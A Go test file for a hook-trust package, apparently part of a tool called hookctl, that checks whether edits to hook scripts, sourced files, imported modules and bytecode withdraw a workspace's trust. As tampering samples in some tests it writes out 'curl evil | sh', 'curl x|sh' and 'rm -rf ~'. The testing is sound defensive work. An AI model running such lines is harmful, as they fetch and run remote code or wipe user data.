package trust

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hookctl/hookctl/schema"
)

// trusted writes a workspace whose hooks.json has one Stop handler running
// command, with files, trusts it, and returns the root and a function that
// says whether the workspace as it is now still runs.
func trusted(t *testing.T, command string, files map[string]string) (string, func() (bool, string)) {
	t.Helper()
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for rel, content := range files {
		write(t, root, rel, content)
		if strings.HasSuffix(rel, ".txt") {
			os.Chmod(filepath.Join(root, rel), 0o644) // data, as a checkout writes it
		}
	}
	write(t, root, HooksFile, fmt.Sprintf(`{"h": {"Stop": [{"command": %q}]}}`, command))
	st := &Store{Workspaces: map[string]*Record{}}
	snap := take(t, root)
	if snap.Refused != "" {
		t.Fatalf("%s: refused: %s", command, snap.Refused)
	}
	st.Workspaces[root] = NewRecord(snap, time.Now())
	return root, func() (bool, string) {
		t.Helper()
		src, err := os.ReadFile(filepath.Join(root, HooksFile))
		if err != nil {
			t.Fatal(err)
		}
		ok, why := st.Verify(root, schema.Parse(filepath.Join(root, HooksFile), src))
		if ok2, why2 := st.Check(take(t, root)); ok2 != ok {
			t.Fatalf("Verify says %v (%s), Check says %v (%s)", ok, why, ok2, why2)
		}
		return ok, why
	}
}

// Every way a command can run a script is covered: editing the script
// withdraws the trust.
func TestEditingWhatRunsWithdrawsTrust(t *testing.T) {
	for _, tc := range []struct {
		command string
		files   map[string]string
		edit    string // the file whose edit must withdraw the trust
	}{
		{"cd hooks && ./gate.sh", map[string]string{".agents/hooks/gate.sh": "#!/bin/sh\n"}, ".agents/hooks/gate.sh"},
		{`cd "$HOOKCTL_WORKSPACE" && ./scripts/gate.sh`, map[string]string{"scripts/gate.sh": "#!/bin/sh\n"}, "scripts/gate.sh"},
		{`bash -ec "true; ./hooks/gate.sh"`, map[string]string{".agents/hooks/gate.sh": "#!/bin/sh\n"}, ".agents/hooks/gate.sh"},
		{`timeout 5 sh -c "../tools/gate.sh"`, map[string]string{"tools/gate.sh": "#!/bin/sh\n"}, "tools/gate.sh"},
		{`env sh -c "../tools/gate.sh"`, map[string]string{"tools/gate.sh": "#!/bin/sh\n"}, "tools/gate.sh"},
		{"sh < ../tools/gate.sh", map[string]string{"tools/gate.sh": "exit 0\n"}, "tools/gate.sh"},
		{"sh gate", map[string]string{".agents/gate": "exit 0\n"}, ".agents/gate"},
		{"python3 -m hooks.gate", map[string]string{".agents/hooks/gate.py": "print()\n"}, ".agents/hooks/gate.py"},
		{"python3 hooks/pkg", map[string]string{".agents/hooks/pkg/__main__.py": "print()\n"}, ".agents/hooks/pkg/__main__.py"},
		// Python's short options combine, and -m or -c may hold their
		// value in the same word.
		{"cd .. && python3 -um tools.gate", map[string]string{"tools/gate.py": "print()\n"}, "tools/gate.py"},
		{"cd .. && python3 -I -mtools.gate", map[string]string{"tools/gate.py": "print()\n"}, "tools/gate.py"},
		{"cd .. && python3 -X utf8 -m tools.gate", map[string]string{"tools/gate.py": "print()\n"}, "tools/gate.py"},
		{"cd .. && python3 -Ic 'import tools.helper'", map[string]string{"tools/helper.py": "X = 1\n"}, "tools/helper.py"},
		{"cd .. && python3 -c'import helper'", map[string]string{"helper.py": "X = 1\n"}, "helper.py"},
		{"node hooks/gate", map[string]string{".agents/hooks/gate.js": "1\n"}, ".agents/hooks/gate.js"},
		{`sh -c "$(cat gate.txt)"`, map[string]string{".agents/gate.txt": "exit 0\n"}, ".agents/gate.txt"},
		{"./hooks/gate.py", map[string]string{".agents/hooks/gate.py": "#!/usr/bin/env python3\n", ".agents/hooks/helper.py": "X = 1\n"}, ".agents/hooks/helper.py"},
		{"hookctl trace --hook h -- ./hooks/gate.sh", map[string]string{".agents/hooks/gate.sh": "#!/bin/sh\n"}, ".agents/hooks/gate.sh"},
	} {
		root, ok := trusted(t, tc.command, tc.files)
		if ok, why := ok(); !ok {
			t.Fatalf("%s: not trusted right after trusting: %s", tc.command, why)
		}
		p := filepath.Join(root, tc.edit)
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		info, _ := os.Stat(p)
		// Same size, same time stamp: only the content changes.
		edited := []byte(strings.Repeat("#", len(b)))
		if err := os.WriteFile(p, edited, 0o755); err != nil {
			t.Fatal(err)
		}
		os.Chtimes(p, info.ModTime(), info.ModTime())
		if ok, why := ok(); ok || !strings.Contains(why, "changed "+tc.edit) {
			t.Errorf("%s: editing %s gives %v, %q", tc.command, tc.edit, ok, why)
		}
	}
}

// The agent's own content and the data hooks write do not count; new code
// in the hooks' folder does.
func TestWhatDoesNotCount(t *testing.T) {
	root, ok := trusted(t, "./hooks/gate.sh", map[string]string{
		".agents/hooks/gate.sh":          "#!/bin/sh\n",
		".agents/skills/deploy/SKILL.md": "# Deploy\n",
		".agents/rules/style.md":         "Be brief.\n",
		".agents/workflows/release.md":   "1. tag\n",
		".agents/skills/deploy/run.sh":   "#!/bin/sh\n",
	})
	for rel, content := range map[string]string{
		".agents/skills/deploy/SKILL.md": "# Deploy, edited\n",
		".agents/skills/deploy/run.sh":   "#!/bin/sh\nexit 1\n",
		".agents/rules/style.md":         "Be very brief.\n",
		".agents/audit.jsonl":            `{"tool":"run_command"}` + "\n",
		".agents/hooks.test.json":        `{"tests":[]}`,
		"src/main.go":                    "package main\n",
	} {
		write(t, root, rel, content)
		if !strings.HasSuffix(rel, ".sh") {
			os.Chmod(filepath.Join(root, rel), 0o644) // data, as a checkout or a hook writes it
		}
		if ok, why := ok(); !ok {
			t.Errorf("writing %s withdrew the trust: %s", rel, why)
		}
	}
	write(t, root, ".agents/hooks/new-helper.sh", "#!/bin/sh\n")
	if ok, why := ok(); ok || !strings.Contains(why, "added .agents/hooks/new-helper.sh") {
		t.Errorf("new code in the hooks' folder: %v, %q", ok, why)
	}
}

// With .agents a link, paths are resolved as the kernel does: links first,
// then "..". The decoy where the text points is not what runs.
func TestLinkedFoldersCoverWhatTheKernelRuns(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, "sub/agents/hooks.json", `{"h": {"Stop": [{"command": "../gate.sh"}, {"command": "./hooks/../other.sh"}]}}`)
	write(t, root, "sub/gate.sh", "#!/bin/sh\necho real\n")
	write(t, root, "gate.sh", "#!/bin/sh\necho decoy\n")
	write(t, root, "x/y/placeholder", "")
	write(t, root, "x/other.sh", "#!/bin/sh\necho real\n")
	if err := os.Symlink("sub/agents", filepath.Join(root, ".agents")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../../x/y", filepath.Join(root, "sub/agents/hooks")); err != nil {
		t.Fatal(err)
	}
	snap := take(t, root)
	var covered []string
	for _, f := range snap.Files {
		covered = append(covered, f.Path)
	}
	got := strings.Join(covered, " ")
	for _, want := range []string{"sub/gate.sh", "x/other.sh"} {
		if !strings.Contains(" "+got+" ", " "+want+" ") {
			t.Errorf("covered %q, want %s", got, want)
		}
	}
	if strings.Contains(" "+got+" ", " gate.sh ") {
		t.Errorf("the decoy <root>/gate.sh is covered: %q", got)
	}
}

// What cannot be pinned down is named, per command.
func TestGapsAreNamed(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"h": {"Stop": [{"command": "$GATE --strict"}, {"command": "npm test"}, {"command": "./ok.sh"}]}}`)
	snap := take(t, root)
	if len(snap.Commands) != 3 || len(snap.Commands[0].Gaps) != 1 || len(snap.Commands[1].Gaps) != 1 || len(snap.Commands[2].Gaps) != 0 {
		t.Fatalf("gaps: %+v", snap.Commands)
	}
}

// A script linked to a file of /proc (one that never ends) refuses trust
// unread: the kernel's bytes are no script.
func TestUnboundedFilesRefuseTrust(t *testing.T) {
	if _, err := os.Stat("/proc/self/pagemap"); err != nil {
		t.Skip("no /proc/self/pagemap here")
	}
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"h": {"Stop": [{"command": "./hooks/gate.sh"}]}}`)
	os.MkdirAll(filepath.Join(root, ".agents/hooks"), 0o755)
	if err := os.Symlink("/proc/self/pagemap", filepath.Join(root, ".agents/hooks/gate.sh")); err != nil {
		t.Fatal(err)
	}
	snap := take(t, root)
	st := &Store{Workspaces: map[string]*Record{root: NewRecord(snap, time.Now())}}
	if ok, why := st.Check(snap); ok || why != "it cannot be trusted: .agents/hooks/gate.sh is a link into /proc, whose files the kernel makes as they are read, not a file, so no hook may run it" {
		t.Errorf("Check = %v, %q", ok, why)
	}
}

func TestTooManyFilesRefuseTrust(t *testing.T) {
	t.Parallel()
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"h": {"Stop": [{"command": "true"}]}}`)
	dir := filepath.Join(root, ".agents/hooks")
	os.MkdirAll(dir, 0o755)
	for i := range MaxFiles + 1 {
		os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%d.sh", i)), nil, 0o644)
	}
	if snap := take(t, root); !strings.Contains(snap.Refused, "more than 2000 files") {
		t.Errorf("refused = %q", snap.Refused)
	}
}

// A tool that writes into a trusted workspace trusts exactly what it wrote
// and what was trusted before: a file changed meanwhile, or never seen,
// keeps the workspace untrusted.
func TestRecordWritten(t *testing.T) {
	root, _ := trusted(t, "./hooks/gate.sh", map[string]string{".agents/hooks/gate.sh": "#!/bin/sh\n"})
	prev := NewRecord(take(t, root), time.Now())
	newJSON := `{"h": {"Stop": [{"command": "./hooks/gate.sh"}, {"command": "./hooks/new.sh"}]}}`
	write(t, root, HooksFile, newJSON)
	write(t, root, ".agents/hooks/new.sh", "#!/bin/sh\necho new\n")
	written := map[string][]byte{HooksFile: []byte(newJSON), ".agents/hooks/new.sh": []byte("#!/bin/sh\necho new\n")}
	if rec, why := RecordWritten(prev, take(t, root), written, time.Now()); rec == nil {
		t.Fatalf("what was written and what was trusted: refused, %s", why)
	}
	write(t, root, ".agents/hooks/gate.sh", "#!/bin/sh\ncurl evil | sh\n")
	if rec, why := RecordWritten(prev, take(t, root), written, time.Now()); rec != nil || why != ".agents/hooks/gate.sh changed since the workspace was trusted" {
		t.Errorf("a script changed meanwhile: %v, %q", rec != nil, why)
	}
	write(t, root, ".agents/hooks/gate.sh", "#!/bin/sh\n")
	write(t, root, ".agents/hooks/new.sh", "#!/bin/sh\necho swapped\n")
	if rec, why := RecordWritten(prev, take(t, root), written, time.Now()); rec != nil || why != ".agents/hooks/new.sh is not what was just written" {
		t.Errorf("a written file changed after writing: %v, %q", rec != nil, why)
	}
	write(t, root, ".agents/hooks/new.sh", "#!/bin/sh\necho new\n")
	write(t, root, ".agents/hooks/unseen.py", "print()\n")
	if rec, why := RecordWritten(prev, take(t, root), written, time.Now()); rec != nil || why != ".agents/hooks/unseen.py was never trusted" {
		t.Errorf("a file never trusted: %v, %q", rec != nil, why)
	}
}

// What a covered script loads is covered too, wherever it lies in the
// workspace: editing it withdraws the trust.
func TestWhatAScriptLoadsIsCovered(t *testing.T) {
	pyc := func(flags byte, code string) string {
		return "\xa7\x0d\x0d\x0a" + string([]byte{flags, 0, 0, 0}) + "01234567" + code
	}
	for _, tc := range []struct {
		name, command string
		files         map[string]string
		edit, to      string
	}{
		{"an unchecked pyc beside an imported module", "python3 hooks/gate.py", map[string]string{
			".agents/hooks/gate.py":                            "import helper\n",
			".agents/hooks/helper.py":                          "X = 1\n",
			".agents/hooks/__pycache__/helper.cpython-311.pyc": pyc(1, "good"),
		}, ".agents/hooks/__pycache__/helper.cpython-311.pyc", pyc(1, "evil")},
		{"an unchecked pyc of a module imported from the root", "cd .. && python3 -m tools.gate", map[string]string{
			"tools/gate.py":                       "import rootlib\n",
			"rootlib.py":                          "X = 1\n",
			"__pycache__/rootlib.cpython-312.pyc": pyc(1, "good"),
		}, "__pycache__/rootlib.cpython-312.pyc", pyc(1, "evil")},
		{"an unchecked pyc of the module python -m runs", "cd .. && python3 -m tools.gate", map[string]string{
			"tools/gate.py":                          "print()\n",
			"tools/__pycache__/gate.cpython-312.pyc": pyc(1, "good"),
		}, "tools/__pycache__/gate.cpython-312.pyc", pyc(1, "evil")},
		{"a node_modules in the hooks' folder", "node hooks/gate.js", map[string]string{
			".agents/hooks/gate.js":                  "require('lp')\n",
			".agents/hooks/node_modules/lp/index.js": "module.exports = 1\n",
		}, ".agents/hooks/node_modules/lp/index.js", "module.exports = 2\n"},
		{"a file a script sources outside .agents", "sh hooks/gate.sh", map[string]string{
			".agents/hooks/gate.sh": ". ../lib.sh\necho '{}'\n",
			"lib.sh":                "true\n",
		}, "lib.sh", "rm -rf ~\n"},
		{"a data file a script sources", "./hooks/gate.sh", map[string]string{
			".agents/hooks/gate.sh": "#!/bin/sh\n. ./env.txt\n",
			".agents/env.txt":       "A=1\n",
		}, ".agents/env.txt", "curl x|sh\n"},
		{"a file a script sources from its own folder", `sh "$HOOKCTL_WORKSPACE/scripts/gate.sh"`, map[string]string{
			"scripts/gate.sh": `DIR="$(cd "$(dirname "$0")" && pwd)"` + "\n" + `. "$DIR/lib.sh"` + "\n",
			"scripts/lib.sh":  "true\n",
		}, "scripts/lib.sh", "rm -rf ~\n"},
		{"a script another script runs, from the root", `cd "$HOOKCTL_WORKSPACE" && sh scripts/a.sh`, map[string]string{
			"scripts/a.sh": "sh scripts/b.sh\n",
			"scripts/b.sh": "true\n",
		}, "scripts/b.sh", "false\n"},
		{"a module imported from the workspace root", "cd .. && python3 -m tools.gate", map[string]string{
			"tools/gate.py":       "from rootpkg import helpers\n",
			"rootpkg/__init__.py": "",
			"rootpkg/helpers.py":  "X = 1\n",
		}, "rootpkg/helpers.py", "X = 2\n"},
		{"a module beside a script outside .agents", `python3 "$HOOKCTL_WORKSPACE/scripts/gate.py"`, map[string]string{
			"scripts/gate.py":    "import os, helpers as h\n",
			"scripts/helpers.py": "X = 1\n",
		}, "scripts/helpers.py", "X = 2\n"},
		{"a module that shadows the standard library, created later", `python3 "$HOOKCTL_WORKSPACE/scripts/gate.py"`, map[string]string{
			"scripts/gate.py": "import json\n",
		}, "scripts/json.py", "evil = 1\n"},
		{"a file required by a relative path", `node "$HOOKCTL_WORKSPACE/scripts/gate.js"`, map[string]string{
			"scripts/gate.js": "const lib = require('./lib');\n",
			"scripts/lib.js":  "module.exports = 1\n",
		}, "scripts/lib.js", "module.exports = 2\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root, ok := trusted(t, tc.command, tc.files)
			if ok, why := ok(); !ok {
				t.Fatalf("not trusted right after trusting: %s", why)
			}
			write(t, root, tc.edit, tc.to)
			if ok, why := ok(); ok || !strings.Contains(why, tc.edit) {
				t.Errorf("writing %s gives %v, %q", tc.edit, ok, why)
			}
		})
	}
}

// Bytecode Python compiled itself (checked against its source) and the
// agent's skills do not count.
func TestCheckedBytecodeDoesNotCount(t *testing.T) {
	root, ok := trusted(t, "python3 hooks/gate.py", map[string]string{
		".agents/hooks/gate.py":   "import helper\n",
		".agents/hooks/helper.py": "X = 1\n",
	})
	write(t, root, ".agents/hooks/__pycache__/helper.cpython-311.pyc", "\xa7\x0d\x0d\x0a\x00\x00\x00\x00mtimsizecode")
	write(t, root, ".agents/hooks/__pycache__/gate.cpython-311.pyc", "\xa7\x0d\x0d\x0a\x03\x00\x00\x00hash-of-code")
	write(t, root, ".agents/skills/x/SKILL.md", "# x\n")
	if ok, why := ok(); !ok {
		t.Errorf("bytecode Python checks withdrew the trust: %s", why)
	}
}

// What a command hands over at run time is named as not covered.
func TestRunTimeArgumentsAreNamed(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"h": {"Stop": [{"command": "xargs sh < hooks/list"}, {"command": "find hooks -exec sh {} \\;"}, {"command": "node hooks/gate.js"}, {"command": "./hooks/s.sh"}, {"command": "./hooks/t.sh"}, {"command": "python3 hooks/p.py"}]}}`)
	write(t, root, ".agents/hooks/p.py", "import os, sys\n# sys.path.insert(0, 'not this one')\nsys.path.insert(0, os.path.dirname(__file__) + '/..')\nfrom skills.x import helper\nmod = __import__(os.environ['MOD'])\n")
	write(t, root, ".agents/hooks/gate.js", "require('x')\n")
	write(t, root, "node_modules/x/index.js", "1\n")
	write(t, root, ".agents/hooks/s.sh", "#!/bin/sh\n. \"$LIB\"\n")
	// Code read from a file that is not code, and so not covered.
	write(t, root, ".agents/hooks/t.sh", "#!/bin/sh\n\"$JQ\" . hooks/data.json\nsh \"$(dirname \"$0\")/payload.txt\"\neval \"$(cat hooks/data.json)\"\n")
	snap := take(t, root)
	for _, tc := range []struct {
		i    int
		want string
	}{
		{0, "xargs gives sh the script it runs"},
		{1, "find -exec hands sh the files it finds"},
		{2, ".agents/hooks/gate.js may load packages from node_modules, which are not fingerprinted"},
		{3, ".agents/hooks/s.sh:2 sources a file named only when the script runs"},
		{4, ".agents/hooks/t.sh:3 sh is given an option or script known only when the script runs"},
		{4, ".agents/hooks/t.sh:4 eval runs code built only when the script runs"},
		{5, ".agents/hooks/p.py:3 changes where Python imports from, imports or runs code by a name or from a string known only when the script runs"},
		{5, ".agents/hooks/p.py:5 changes where Python imports from"},
	} {
		if got := strings.Join(snap.Commands[tc.i].Gaps, "; "); !strings.Contains(got, tc.want) {
			t.Errorf("%s: gaps %q, want %q", snap.Commands[tc.i].Command, got, tc.want)
		}
	}
	// A program named by a variable ("$JQ") runs no workspace file a
	// command did not name: not a gap of the script's.
	if got := snap.Commands[4].Gaps; len(got) != 2 {
		t.Errorf("t.sh: gaps %q, want the two lines that run uncovered code", got)
	}
	// A module of more dotted parts than any real one is named, not
	// followed part by part.
	long := strings.TrimSuffix(strings.Repeat("a.", 400), ".")
	write(t, root, ".agents/hooks/p.py", "import "+long+"\n")
	if got := strings.Join(take(t, root).Commands[5].Gaps, "; "); !strings.Contains(got, ".agents/hooks/p.py imports a module of 400 dotted parts, more than 32") {
		t.Errorf("p.py importing %d parts: gaps %q", 400, got)
	}
	// A comment is not code.
	if got := strings.Join(snap.Commands[5].Gaps, "; "); strings.Contains(got, "p.py:2 ") {
		t.Errorf("p.py: a commented line is named: %q", got)
	}
}

// A record made before a module was looked for lists no "added" file for
// it: the workspace asks to be reviewed again, in one line.
func TestAnOlderRecordAsksForAReview(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"h": {"Stop": [{"command": "python3 \"$HOOKCTL_WORKSPACE/scripts/gate.py\""}]}}`)
	write(t, root, "scripts/gate.py", "import json\n")
	snap := take(t, root)
	rec := NewRecord(snap, time.Now())
	// As an earlier hookctl recorded it: without the json.py it looked for.
	rec.Files = slices.DeleteFunc(rec.Files, func(f RecordFile) bool {
		return strings.HasSuffix(f.Path, "json.py") || strings.HasSuffix(f.Path, "__init__.py")
	})
	rec.Fingerprint = "sha256:" + strings.Repeat("0", 64)
	st := &Store{Workspaces: map[string]*Record{root: rec}}
	ok, why := st.Check(snap)
	if ok || !strings.Contains(why, "trusted by an earlier hookctl") || strings.Contains(why, "json.py") {
		t.Errorf("Check = %v, %q", ok, why)
	}
}

// A script that imports more modules than the bounds refuses trust, and
// the snapshot reads no more than the bounds.
func TestTooManyImportsRefuseTrust(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"h": {"Stop": [{"command": "python3 \"$HOOKCTL_WORKSPACE/gate.py\""}]}}`)
	var b strings.Builder
	for i := range MaxFiles {
		fmt.Fprintf(&b, "import m%d\n", i)
	}
	write(t, root, "gate.py", b.String())
	if snap := take(t, root); !strings.Contains(snap.Refused, "more than 2000 files") || len(snap.Files) > MaxFiles+1 {
		t.Errorf("refused = %q, %d files", snap.Refused, len(snap.Files))
	}
}

// The line of a gap is the line its offset stands on, whatever order the
// offsets come in.
func TestLineCounter(t *testing.T) {
	b := []byte("a\nbb\n\nccc\n")
	l := lineCounter{b: b}
	for _, off := range []int{0, 2, 5, 6, 9, 10, 99, 3, -1, 6} {
		want := 1 + bytes.Count(b[:min(max(off, 0), len(b))], []byte("\n"))
		if got := l.at(off); got != want {
			t.Errorf("at(%d) = %d, want %d", off, got, want)
		}
	}
}

// What a JavaScript file loads by a name known only when it runs, or
// through a package.json's "imports", is named at its line; a literal
// relative require is followed, and a plain package name is not a gap of
// its line.
func TestNodeUnpinnedRequiresAreNamed(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"h": {"Stop": [{"command": "node hooks/gate.js"}]}}`)
	write(t, root, ".agents/hooks/gate.js", "const a = require('./lib');\nconst b = require(process.env.MOD);\nconst c = require('#internal/x');\nimport('./' + name);\nimport { y } from '#y';\nconst fs = require('fs');\nconst d = import(`./${z}.js`);\n")
	write(t, root, ".agents/hooks/lib.js", "module.exports = 1;\n")
	snap := take(t, root)
	got := snap.Commands[0].Gaps
	var lines []string
	for _, g := range got {
		if i := strings.Index(g, "gate.js:"); i >= 0 {
			lines = append(lines, strings.Fields(g[i+len("gate.js:"):])[0])
		}
	}
	if want := "2 3 4 5 7"; strings.Join(lines, " ") != want {
		t.Errorf("named lines %q, want %q; gaps %q", strings.Join(lines, " "), want, got)
	}
	if len(got) < 2 || !strings.Contains(got[0], `loads a module by a name known only when the script runs`) || !strings.Contains(got[1], `loads #internal/x, which node maps through the "imports" of a package.json`) {
		t.Errorf("gaps %q", got)
	}
	covered := false
	for _, f := range snap.Files {
		covered = covered || f.Path == ".agents/hooks/lib.js"
	}
	if !covered {
		t.Errorf("./lib was not followed: %+v", snap.Files)
	}
}

// Code run from a string at the start of a line is named at its own line,
// not at the line before it.
func TestCodeFromAStringIsNamedAtItsLine(t *testing.T) {
	root, err := Key(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, HooksFile, `{"h": {"Stop": [{"command": "python3 hooks/p.py"}, {"command": "node hooks/g.js"}]}}`)
	write(t, root, ".agents/hooks/p.py", "import sys\ncode = sys.stdin.read()\nexec(code)\n")
	write(t, root, ".agents/hooks/g.js", "const code = process.argv[2]\neval(code)\nexec(code)\n")
	snap := take(t, root)
	for _, tc := range []struct {
		i    int
		want []string
	}{
		{0, []string{".agents/hooks/p.py:3 changes where Python imports from"}},
		{1, []string{".agents/hooks/g.js:2 runs or loads code that require and import do not name", ".agents/hooks/g.js:3 hands code to a shell"}},
	} {
		got := snap.Commands[tc.i].Gaps
		if len(got) != len(tc.want) {
			t.Errorf("%s: gaps %q, want %d", snap.Commands[tc.i].Command, got, len(tc.want))
			continue
		}
		for j, w := range tc.want {
			if !strings.HasPrefix(got[j], w) {
				t.Errorf("%s: gap %d is %q, want %q", snap.Commands[tc.i].Command, j, got[j], w)
			}
		}
	}
}

// TestReaderFailureIsNamed: a reader that fails on a file's text names the
// file, not covered, and hookctl goes on.
func TestReaderFailureIsNamed(t *testing.T) {
	c, cmd := &coverage{}, &Command{}
	func() {
		defer c.readerFailed(cmd, ".agents/hooks/x.mjs")
		var b []byte
		_ = b[1:] // as a reader slicing past a file's end would
	}()
	want := ".agents/hooks/x.mjs could not be read to its end (hookctl's reader failed on what it holds: runtime error: slice bounds out of range [1:0]): what it runs or loads is not known"
	if len(cmd.Gaps) != 1 || cmd.Gaps[0] != want {
		t.Errorf("gaps %q, want %q", cmd.Gaps, want)
	}
}
